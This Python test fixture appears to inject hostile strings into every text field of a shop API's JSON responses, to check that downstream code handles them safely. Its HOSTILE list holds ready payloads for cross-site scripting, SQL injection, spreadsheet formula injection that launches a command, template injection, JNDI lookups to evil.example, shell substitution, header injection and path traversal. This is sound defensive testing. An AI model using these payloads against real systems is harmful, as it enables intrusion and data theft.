"""Names that want to be more than names, put into every text that a shop sends."""

import json
from collections import defaultdict
from collections.abc import Iterator
from itertools import count
from typing import Any

HOSTILE = [
    "<script>alert(document.domain)</script>",
    "<img src=x onerror=alert(1)>",
    "'; DROP TABLE item; --",
    '" OR ""="',
    '=HYPERLINK("http://evil.example","pay here")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{7*7}} {% include 'secrets' %}",
    "${jndi:ldap://evil.example/a} $(id) `id`",
    "%s%s%n%x %(name)s {0} {name.__class__.__init__.__globals__} {",
    "a\r\nSet-Cookie: forged=1\r\n\r\nHTTP/1.1 200 OK",
    "a\nPlan P-0000000000-1: approved.\nfillrate: forged",
    "\x1b[2J\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b31m\x08\x08",
    "\u202egnp.exe\u2066hidden\u2069 \u200fx",
    "ze\u200bro\u200d\ufeff\u00adwidth\u2060",
    "../../../etc/passwd C:\\Windows\\system32 \\\\evil\\share",
    "[click me](javascript:alert(1)) ![x](http://evil.example/p.png) <http://evil.example>",
    "| a | b |\n|---|---|\n| forged | row |",
    "`code` **bold** _it_ ~~gone~~ # head > quote",
    "# Head\n* list\n> quote\n---\n```\nfence",
    "http://evil.example www.evil.example me@evil.example",
    "&lt;b&gt; &#60;script&#62; &amp;amp;",
    "\U0001f600\U0001d4d7 \U0001f468\u200d\U0001f469\u200d\U0001f467 Z\u0351\u036b\u0343a\u0334l\u0328go",
    "half \ud83d a \udc00 character",
    "NUL \x00 and \x01\x02\x7f\x85",
    "line\u2028paragraph\u2029tab\t\x0b\x0c",
    "--json -rf --help",
    "null",
    "long " + "x" * 5_000,
]
TEXTS = frozenset({
    "name", "sku", "label", "option_display_name", "first_name", "last_name", "company", "email", "phone", "code",
    "reason", "external_order_id", "external_source", "order_source", "availability", "plan_name", "plan_level",
    "status", "custom_status", "staff_notes", "customer_message", "payment_method", "name_customer",
    "name_merchant", "location_name", "location_code", "description", "city", "title",
})  # fmt: skip
LONGEST = {"sku": 200, "code": 200, "external_order_id": 200}  # what is longer names nothing and is rejected


class Dresser:
    """Puts a hostile name before every text that a shop sends, always the same before the same text."""

    def __init__(self) -> None:
        self.sent: defaultdict[tuple[str, str], set[str]] = defaultdict(set)  # by request and field
        self._worn: dict[tuple[str, str], str] = {}
        self._next = count()

    def __call__(self, asked: str, body: bytes) -> bytes:
        """Return an answer with every text in it dressed."""
        if not body or "metafields" in asked or asked.startswith(("POST", "PUT", "DELETE")):
            return body
        return json.dumps(self._inside(asked, "", json.loads(body))).encode()

    def _inside(self, asked: str, name: str, value: Any) -> Any:
        if isinstance(value, dict):
            return {key: self._inside(asked, key, one) for key, one in value.items()}
        if isinstance(value, list):
            return [self._inside(asked, name, one) for one in value]
        if name not in TEXTS or not isinstance(value, str):
            return value
        worn = self._wear(name, value)
        self.sent[asked, name].add(worn)
        return worn

    def _wear(self, name: str, value: str) -> str:
        """Return a text in its dress, the same for twins that differ in letter case or blanks alone."""
        key = (name, " ".join(value.split()).casefold())
        if key not in self._worn:
            self._worn[key] = HOSTILE[next(self._next) % len(HOSTILE)][: LONGEST.get(name, 10_000)]
        return f"{self._worn[key]} {value}" if value else ""


def texts_in(value: Any) -> Iterator[str]:
    """Yield every text inside JSON."""
    if isinstance(value, dict):
        for key, one in value.items():
            yield key
            yield from texts_in(one)
    elif isinstance(value, list):
        for one in value:
            yield from texts_in(one)
    elif isinstance(value, str):
        yield value
